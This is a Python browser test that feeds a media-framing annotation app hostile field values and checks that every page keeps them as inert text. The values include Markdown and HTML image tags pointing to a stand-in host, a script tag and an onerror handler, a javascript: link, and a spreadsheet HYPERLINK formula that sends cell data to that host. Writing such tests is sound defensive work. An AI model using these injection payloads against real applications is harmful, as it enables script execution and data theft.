"""Hostile data on every page of the app, in a real browser: Markdown images and links,
HTML, terminal markup and spreadsheet formulas in outlet names, titles, article text,
codebook fields and the coder's name stay text — the page never fetches anything from
outside the loopback server, never renders a foreign image or link, never runs a script.
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml

from _browser import app_server, browser_page, nav, require_browser, settle

pytestmark = [pytest.mark.slow, pytest.mark.browser]
sync_api = require_browser()

EVIL = "evil.invalid"


def _img(name: str) -> str:
    return f"![{name}](http://{EVIL}/{name}.png)"


OUTLET = f"{_img('outlet')} [/bold] <img src=http://{EVIL}/outlet-html.png> Daily"
TITLE = f'=HYPERLINK("http://{EVIL}/?d="&A1,"x") {_img("title")} Border attack'
TEXT = (f"Militants attacked a border post on Monday, killing three soldiers. "
        f"Officials blamed a foreign-backed group. [read more](http://{EVIL}/link) {_img('text')} "
        f"<script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned = 2\"> "
        "Residents said the village was shelled for hours and families fled.")
CODER = _img("coder")


def _corpus(folder: Path) -> Path:
    rows = [
        {"id": "h1", "outlet": OUTLET, "date": "2025-03-03", "title": TITLE, "text": TEXT,
         "url": "javascript:alert(1)"},
        {"id": "h2", "outlet": f"Second {_img('outlet2')}", "date": "2025-03-03",
         "title": f"Soldiers killed at border post {_img('title2')}",
         "text": "Three soldiers were killed when militants attacked a border post on Monday. "
                 f"The army said the attackers crossed from abroad. {_img('text2')}"},
    ]
    path = folder / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    return path


def _codebook(folder: Path) -> Path:
    from framing.codebook import Codebook

    data = Codebook.load("south-asia-security").to_dict()
    data["id"] = "hostile-test"
    data["name"] = f"Hostile {_img('cbname')}"
    data["version"] = _img("cbversion")
    data["description"] = f"Described {_img('cbdesc')}"
    data["frames"][0]["label"] = f"Siege {_img('label')}"
    data["frames"][0]["description"] = f"Frame text {_img('fdesc')}"
    data["axes"][0]["label"] = f"Axis {_img('axis')}"
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def test_hostile_data_stays_text_on_every_page(tmp_path):
    corpus, codebook = _corpus(tmp_path), _codebook(tmp_path)
    outside: list[str] = []

    def guard(route):
        host = urlparse(route.request.url).hostname or ""
        if host not in ("127.0.0.1", "localhost"):
            outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    with app_server(tmp_path, {"FRAMING_APP_PATHS": str(corpus)}) as url, browser_page(sync_api) as page:
        page.route("**/*", guard)
        page.goto(url)
        page.locator(".outlet-name").first.wait_for(timeout=150_000)
        settle(page)
        # the codebook with hostile fields, opened through the Codebook page's upload
        nav(page, "Codebook")
        page.locator("[data-testid='stFileUploader'] input[type=file]").first.set_input_files(str(codebook))
        page.get_by_role("button", name="Use hostile.yaml").click()
        settle(page)
        page.get_by_text("hostile-test").first.wait_for()
        for title in ("Events", "Outlets", "Corpus", "Codebook", "Export"):
            nav(page, title)
            _check(page, title, outside)
        nav(page, "Events")
        page.get_by_text("Pick articles", exact=True).click()
        settle(page)
        _check(page, "Events (pick articles)", outside)
        assert page.get_by_text("[/bold]").count() >= 1          # the outlet name is shown as typed
        nav(page, "Annotate")
        box = page.get_by_label("Coder name")
        box.fill(CODER)
        box.press("Enter")
        settle(page)
        _check(page, "Annotate", outside)
        nav(page, "Validation")
        _check(page, "Validation", outside)
    assert outside == []


def _check(page, where: str, outside: list[str]) -> None:
    assert outside == [], f"{where}: requests left the server: {outside}"
    assert page.evaluate("() => window.__pwned === undefined"), f"{where}: a script from the data ran"
    foreign_img = page.evaluate(
        f"() => [...document.querySelectorAll('img')].map(i => i.src).filter(s => s.includes('{EVIL}'))")
    assert foreign_img == [], f"{where}: images from the data: {foreign_img}"
    links = page.evaluate(
        f"() => [...document.querySelectorAll('a')].map(a => a.href)"
        f".filter(h => h.includes('{EVIL}') || h.startsWith('javascript:'))")
    assert links == [], f"{where}: links from the data: {links}"
